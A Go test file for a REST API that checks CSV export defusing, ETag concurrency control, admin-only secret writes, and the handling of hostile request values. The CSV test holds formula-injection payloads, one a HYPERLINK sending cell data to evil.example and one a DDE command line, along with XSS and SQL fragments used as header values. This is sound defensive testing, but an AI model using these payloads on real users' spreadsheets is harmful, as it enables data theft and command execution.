package rest_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/hivematrix/codex/codex"
	"github.com/hivematrix/codex/rest"
	"github.com/hivematrix/codex/store"
	"github.com/hivematrix/codex/store/storetest"
)

// TestCSVInjection checks that a CSV export defuses formulas as OWASP advises (a cell
// beginning with =, +, -, @, tab or CR gets a leading '), ends lines with CRLF (RFC 4180)
// and starts with a UTF-8 byte order mark when asked with ?bom=true.
func TestCSVInjection(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\rx"}
		for i, name := range evil {
			f.must(f.db.CreateContact(f.sys, &codex.Contact{CompanyID: f.globex.ID, FirstName: "Évé", LastName: name,
				Email: "evil" + string(rune('a'+i)) + "@globex.example", Active: true}))
		}
		b := f.expect(req{as: "admin", path: "/api/contacts?format=csv&bom=true&company_id=" + strconv.FormatInt(f.globex.ID, 10)}, http.StatusOK)
		if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBFid,")) {
			t.Errorf("export starts %q; want a UTF-8 BOM then the header", b[:min(10, len(b))])
		}
		if n, crlf := bytes.Count(b, []byte("\n")), bytes.Count(b, []byte("\r\n")); n != crlf || n < len(evil)+1 {
			t.Errorf("%d line ends, %d of them CRLF; want every line to end with CRLF", n, crlf)
		}
		records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\xEF\xBB\xBF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := -1
		for i, h := range records[0] {
			if h == "last_name" {
				col = i
			}
		}
		got := map[string]bool{}
		for _, rec := range records[1:] {
			got[rec[col]] = true
		}
		for _, name := range evil {
			if want := "'" + name; !got[want] {
				t.Errorf("last_name %q not exported as %q (got %v)", name, want, got)
			}
		}
		if !got["Scorpio"] {
			t.Errorf("a plain name is changed: %v", got)
		}
		// Without ?bom, no BOM; a bad value is a problem.
		b = f.expect(req{as: "admin", path: "/api/contacts?format=csv"}, http.StatusOK)
		if !strings.HasPrefix(string(b), "id,") {
			t.Errorf("export without bom starts %q", b[:min(10, len(b))])
		}
		f.problem(req{as: "admin", path: "/api/contacts?format=csv&bom=maybe"}, http.StatusBadRequest, "bom")
	})
}

// TestOptimisticConcurrency checks ETag and If-Match on rows: every row answer carries its
// version as ETag; a PATCH, PUT or DELETE with a stale If-Match is a 412 that changes
// nothing; with the current one it succeeds and the ETag moves; without one it is a 428
// when the server requires it.
func TestOptimisticConcurrency(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		for _, path := range []string{
			"/api/companies/" + strconv.FormatInt(f.globex.ID, 10),
			"/api/contacts/" + strconv.FormatInt(f.jane.ID, 10),
			"/api/assets/" + strconv.FormatInt(f.server.ID, 10),
			"/api/network_equipment/" + strconv.FormatInt(f.router.ID, 10),
		} {
			t.Run(path, func(t *testing.T) {
				field := "notes"
				if strings.Contains(path, "companies") {
					field = "description"
				}
				body := func(v string) string { return `{"` + field + `":"` + v + `"}` }
				resp := f.do(req{as: "admin", path: path})
				etag := resp.Header.Get("ETag")
				if resp.StatusCode != http.StatusOK || !strings.HasPrefix(etag, `"`) {
					t.Fatalf("GET %s = %d, ETag %q; want 200 and a strong ETag", path, resp.StatusCode, etag)
				}
				f.expect(req{as: "admin", method: http.MethodPatch, path: path, body: body("stale"),
					header: []string{"If-Match", `"2001-01-01T00:00:00Z"`}}, http.StatusPreconditionFailed)
				resp = f.do(req{as: "admin", method: http.MethodPatch, path: path, body: body("fresh"),
					header: []string{"If-Match", etag}})
				next := resp.Header.Get("ETag")
				if resp.StatusCode != http.StatusOK || next == "" || next == etag {
					t.Fatalf("PATCH with the current ETag = %d, ETag %q (was %q); want 200 and a new ETag", resp.StatusCode, next, etag)
				}
				// The old ETag is stale now, for PUT and DELETE too.
				f.expect(req{as: "admin", method: http.MethodPatch, path: path, body: body("late"),
					header: []string{"If-Match", etag}}, http.StatusPreconditionFailed)
				f.expect(req{as: "admin", method: http.MethodDelete, path: path,
					header: []string{"If-Match", etag}}, http.StatusPreconditionFailed)
				if b := f.expect(req{as: "admin", path: path}, http.StatusOK); !strings.Contains(string(b), `"fresh"`) || strings.Contains(string(b), `"archived_at":"`) {
					t.Errorf("after refused writes: %s; want notes fresh and not archived", b)
				}
				f.expect(req{as: "admin", method: http.MethodDelete, path: path, header: []string{"If-Match", next}}, http.StatusOK)
			})
		}
		// Without If-Match writes go through unless the server requires it.
		f.expect(req{as: "admin", method: http.MethodPatch, path: "/api/contacts/" + strconv.FormatInt(f.jane.ID, 10),
			body: `{"title":"CEO"}`}, http.StatusOK)
	})
}

// TestRequireIfMatch checks [server] require_if_match: a write without If-Match is a 428.
func TestRequireIfMatch(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixtureWith(t, db, rest.Options{RequireIfMatch: true})
		path := "/api/contacts/" + strconv.FormatInt(f.jane.ID, 10)
		p := decode[rest.Problem](t, f.expect(req{as: "admin", method: http.MethodPatch, path: path, body: `{"title":"CEO"}`}, http.StatusPreconditionRequired))
		if !strings.Contains(p.Detail, "If-Match") {
			t.Errorf("428 detail %q; want it to name If-Match", p.Detail)
		}
		f.expect(req{as: "admin", method: http.MethodDelete, path: path}, http.StatusPreconditionRequired)
		etag := f.do(req{as: "admin", path: path}).Header.Get("ETag")
		f.expect(req{as: "admin", method: http.MethodPatch, path: path, body: `{"title":"CEO"}`, header: []string{"If-Match", etag}}, http.StatusOK)
	})
}

// TestConcurrentAddressPatches checks that two PATCHes of different members of one
// address, sent at once, both keep their change (the lost update of issue 11).
func TestConcurrentAddressPatches(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		path := "/api/companies/" + strconv.FormatInt(f.globex.ID, 10)
		for round := range 15 {
			city, line1 := "City "+strconv.Itoa(round), "Street "+strconv.Itoa(round)
			var wg sync.WaitGroup
			for _, body := range []string{`{"address":{"city":"` + city + `"}}`, `{"address":{"line1":"` + line1 + `"}}`} {
				wg.Add(1)
				go func() {
					defer wg.Done()
					f.expect(req{as: "admin", method: http.MethodPatch, path: path, body: body}, http.StatusOK)
				}()
			}
			wg.Wait()
			c, err := f.db.Company(f.sys, f.globex.ID)
			f.must(err)
			if c.Address.City != city || c.Address.Line1 != line1 {
				t.Fatalf("round %d: address %+v; want city %q and line1 %q", round, c.Address, city, line1)
			}
		}
	})
}

// TestSecretWrites checks that only admins set secret fields: a technician's or a write
// service's PATCH or POST of license_key or secret_fields is a 403 naming the field and
// leaves the admin's values alone; sending back the row as read (secrets blank) is fine.
func TestSecretWrites(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		f.as["writer"] = &codex.Principal{Subject: "service:sync", Service: "sync", Grant: codex.Grant{Read: true, Write: true}}
		path := "/api/assets/" + strconv.FormatInt(f.license.ID, 10)
		for _, who := range []string{"technician", "writer"} {
			for _, body := range []string{`{"license_key":"MINE"}`, `{"secret_fields":{"pin":"0000"}}`, `{"license_key":""}`} {
				if body == `{"license_key":""}` {
					// Blank, as the technician reads it: no change, no refusal.
					f.expect(req{as: who, method: http.MethodPatch, path: path, body: body}, http.StatusOK)
					continue
				}
				p := f.problem(req{as: who, method: http.MethodPatch, path: path, body: body}, http.StatusForbidden, "")
				if !strings.Contains(p.Detail, "administrator") {
					t.Errorf("%s PATCH %s: detail %q; want it to say only an administrator may", who, body, p.Detail)
				}
			}
			f.problem(req{as: who, method: http.MethodPost, path: "/api/assets",
				body: `{"company_id":123,"name":"Visio","type":"license","license_key":"K"}`}, http.StatusForbidden, "")
		}
		a, err := f.db.Asset(f.sys, f.license.ID)
		f.must(err)
		if a.LicenseKey != "SECRET-KEY-1" {
			t.Errorf("licence key %q after refused writes; want the admin's", a.LicenseKey)
		}
		// A technician may still change the other fields, and an admin the secrets.
		f.expect(req{as: "technician", method: http.MethodPatch, path: path, body: `{"notes":"renewed"}`}, http.StatusOK)
		f.expect(req{as: "admin", method: http.MethodPatch, path: path, body: `{"license_key":"NEW-KEY"}`}, http.StatusOK)
	})
}

// TestLowerCompliance checks that only an admin lowers a company's compliance level;
// anyone who may write companies may raise it.
func TestLowerCompliance(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		f.as["writer"] = &codex.Principal{Subject: "service:sync", Service: "sync", Grant: codex.Grant{Read: true, Write: true}}
		acme := "/api/companies/123" // HIPAA
		for _, who := range []string{"technician", "writer"} {
			f.problem(req{as: who, method: http.MethodPatch, path: acme, body: `{"compliance_level":"standard"}`}, http.StatusForbidden, "")
		}
		f.expect(req{as: "technician", method: http.MethodPatch, path: acme, body: `{"compliance_level":"cjis"}`}, http.StatusOK)
		f.problem(req{as: "technician", method: http.MethodPatch, path: acme, body: `{"compliance_level":"hipaa"}`}, http.StatusForbidden, "")
		f.expect(req{as: "admin", method: http.MethodPatch, path: acme, body: `{"compliance_level":"standard"}`}, http.StatusOK)
	})
}

// TestLongValues checks that a value too long for the database is a 422 naming the field
// on both databases (PostgreSQL answered 500 "index row size exceeds btree maximum").
func TestLongValues(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		long := strings.Repeat("x", 3000)
		f.problem(req{as: "admin", method: http.MethodPatch, path: "/api/assets/" + strconv.FormatInt(f.server.ID, 10),
			body: `{"name":"` + long + `"}`}, http.StatusUnprocessableEntity, "name")
		f.problem(req{as: "admin", method: http.MethodPatch, path: "/api/contacts/" + strconv.FormatInt(f.jane.ID, 10),
			body: `{"last_name":"` + long + `"}`}, http.StatusUnprocessableEntity, "last_name")
		f.problem(req{as: "admin", method: http.MethodPost, path: "/api/network_equipment",
			body: `{"company_id":123,"type":"switch","name":"` + long + `"}`}, http.StatusUnprocessableEntity, "name")
	})
}

// TestSmallHostileInputs checks the smaller items of issue 11: offsets past the bound
// are refused (they wrapped at 32 bits), data responses are not cached, and a caller's
// X-Request-ID is kept only when it matches a safe pattern.
func TestSmallHostileInputs(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		f.problem(req{as: "admin", path: "/api/companies?offset=4294967298"}, http.StatusBadRequest, "offset")
		f.problem(req{as: "admin", path: "/api/companies?offset=1000001"}, http.StatusBadRequest, "offset")
		f.expect(req{as: "admin", path: "/api/companies?offset=1000000"}, http.StatusOK)
		for _, path := range []string{"/api/companies", "/api/companies?format=csv", "/api/companies/123"} {
			if cc := f.do(req{as: "admin", path: path}).Header.Get("Cache-Control"); cc != "no-store" {
				t.Errorf("GET %s: Cache-Control %q; want no-store", path, cc)
			}
		}
		for id, kept := range map[string]bool{
			"3f2a9c1e-7b4d-4e8f-9a6b-2c1d0e9f8a7b": true,
			"trace:abc_123.4":                      true,
			`<script>alert(1)</script>`:            false,
			"a b":                                  false,
			`x"; DROP`:                             false,
		} {
			got := f.do(req{as: "admin", path: "/api/companies/123", header: []string{"X-Request-ID", id}}).Header.Get("X-Request-ID")
			if (got == id) != kept {
				t.Errorf("X-Request-ID %q answered as %q; want it kept: %v", id, got, kept)
			}
		}
	})
}

// TestClientScopeOfSettings checks the one scope rule for effective settings: a client
// user of a child company does not read the settings its company inherits from a parent
// outside its subtree, while staff see the full merge.
func TestClientScopeOfSettings(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		f.as["east-client"] = &codex.Principal{Subject: "u9", Email: "e@acme.example", Level: codex.LevelClient, CompanyID: f.acmeEast.ID}
		path := "/api/companies/" + strconv.FormatInt(f.acmeEast.ID, 10) + "/effective_settings"
		if b := f.expect(req{as: "admin", path: path}, http.StatusOK); !strings.Contains(string(b), "America/Chicago") {
			t.Errorf("admin: %s; want the parent's tz", b)
		}
		if b := f.expect(req{as: "east-client", path: path}, http.StatusOK); strings.Contains(string(b), "America/Chicago") {
			t.Errorf("client of the child: %s; want nothing inherited from outside its subtree", b)
		}
	})
}

// TestContactScopeRule checks the one contact scope rule through REST: a contact whose
// home is Globex but who also serves Acme East is visible to Acme's client by its own URL
// as in the lists, CSV and the company's nested list, as seen from Acme East (secondary
// there), while Globex stays unreadable; a Globex-only contact stays a 404.
func TestContactScopeRule(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		both := &codex.Contact{CompanyID: f.globex.ID, FirstName: "Bo", LastName: "Both", Email: "bo@globex.example",
			Active: true, Designation: codex.DesignationPrimary}
		f.must(f.db.CreateContact(f.sys, both))
		f.must(f.db.AssignContact(f.sys, both.ID, f.acmeEast.ID, codex.DesignationSecondary))
		only := &codex.Contact{CompanyID: f.globex.ID, FirstName: "Gus", LastName: "Globex", Email: "gus@globex.example", Active: true}
		f.must(f.db.CreateContact(f.sys, only))

		path := "/api/contacts/" + strconv.FormatInt(both.ID, 10)
		got := decode[rest.Contact](t, f.expect(req{as: "client", path: path}, http.StatusOK))
		if got.Name != "Bo Both" || got.Designation != codex.DesignationSecondary || got.IsPrimary {
			t.Errorf("client GET %s = %+v; want Bo Both, secondary (his standing at Acme East, not at Globex)", path, got)
		}
		f.expect(req{as: "client", path: "/api/contacts/" + strconv.FormatInt(only.ID, 10)}, http.StatusNotFound)
		f.expect(req{as: "client", path: "/api/companies/" + strconv.FormatInt(f.globex.ID, 10)}, http.StatusNotFound)

		list := decode[[]rest.Contact](t, f.expect(req{as: "client", path: "/api/contacts"}, http.StatusOK))
		nested := decode[[]rest.Contact](t, f.expect(req{as: "client",
			path: "/api/companies/" + strconv.FormatInt(f.acmeEast.ID, 10) + "/contacts"}, http.StatusOK))
		for name, rows := range map[string][]rest.Contact{"/api/contacts": list, "nested": nested} {
			var seen bool
			for _, c := range rows {
				if c.ID == only.ID {
					t.Errorf("%s: the client sees the Globex-only contact", name)
				}
				if c.ID == both.ID {
					seen = true
					if c.Designation != codex.DesignationSecondary {
						t.Errorf("%s: Bo is %s; want secondary", name, c.Designation)
					}
				}
			}
			if !seen {
				t.Errorf("%s: the client does not see Bo", name)
			}
		}
		csv := string(f.expect(req{as: "client", path: "/api/contacts?format=csv"}, http.StatusOK))
		if !strings.Contains(csv, "bo@globex.example") || strings.Contains(csv, "gus@globex.example") {
			t.Errorf("client CSV: %s; want Bo and not Gus", csv)
		}
		// Staff see Bo at home.
		got = decode[rest.Contact](t, f.expect(req{as: "admin", path: path}, http.StatusOK))
		if got.Designation != codex.DesignationPrimary || got.CompanyID != f.globex.ID {
			t.Errorf("admin GET %s = %+v; want primary at Globex", path, got)
		}
	})
}
